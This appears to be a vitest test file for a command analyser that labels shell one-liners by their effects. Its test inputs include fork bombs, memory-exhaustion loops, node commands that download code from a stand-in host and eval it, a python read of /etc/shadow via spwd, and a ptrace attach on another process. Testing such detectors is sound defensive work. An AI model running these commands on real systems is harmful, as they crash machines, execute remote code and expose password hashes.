import { describe, expect, it } from 'vitest'
import { effectsOf } from '../../testing.ts'

function stated(text: string): string[] {
  return effectsOf(text).flatMap((effect) => {
    if (effect.kind === 'exhaust' && effect.certainty !== 'possible') return [`exhaust ${effect.what}`]
    if (effect.kind === 'run-code' && effect.origin === 'download') return [`download ${effect.host}`]
    if (effect.kind === 'observe') return [`observe ${effect.what}`]
    return effect.kind === 'read-path' && effect.path.tags.includes('secret') ? [`read ${effect.path.real}`] : []
  })
}

describe('code that uses a machine up', () => {
  it.each([
    ["perl -e 'fork while fork'", 'exhaust processes'],
    ["ruby -e 'loop { fork { } }'", 'exhaust processes'],
    ['python3 -c \'a=[]\nwhile True: a.append("x"*10**8)\'', 'exhaust memory'],
    ["node -e 'const a=[]; while(true) a.push(Buffer.alloc(1e8))'", 'exhaust memory'],
    ["node -e 'const a=[]; for(;;) a.push(new Array(1e7).fill(0))'", 'exhaust memory'],
    ['perl -e \'my $x="a"; $x .= $x while 1\'', 'exhaust memory'],
  ])('%s: %s', (text, what) => {
    expect(stated(text)).toContain(what)
  })

  it.each([
    ["python3 -c 'a=[]\nwhile True:\n  a.append(1)\n  if len(a) > 3: break'"],
    ["python3 -c 'lines=[]\nwhile True: lines.append(input())'"],
    ["python3 -c 'import os; print(os.fork())'"],
    ["ruby -e 'loop { puts gets }'"],
  ])('%s is ordinary', (text) => {
    expect(stated(text)).toEqual([])
  })
})

describe('code that reaches further than it looks', () => {
  it.each([
    [
      'node -e \'require("https").get("https://far.example.net/x",r=>{let d="";r.on("data",c=>d+=c);r.on("end",()=>eval(d))})\'',
      'download far.example.net',
    ],
    [
      'node -e \'require("http").get("http://far.example.net/x",r=>r.on("data",d=>require("vm").runInThisContext(d.toString())))\'',
      'download far.example.net',
    ],
    ["python3 -c 'import spwd; print(spwd.getspall())'", 'read /etc/shadow'],
    ['python3 -c \'import ctypes; ctypes.CDLL("libc.so.6").ptrace(16, 1234, 0, 0)\'', 'observe memory'],
  ])('%s: %s', (text, what) => {
    expect(stated(text)).toContain(what)
  })
})
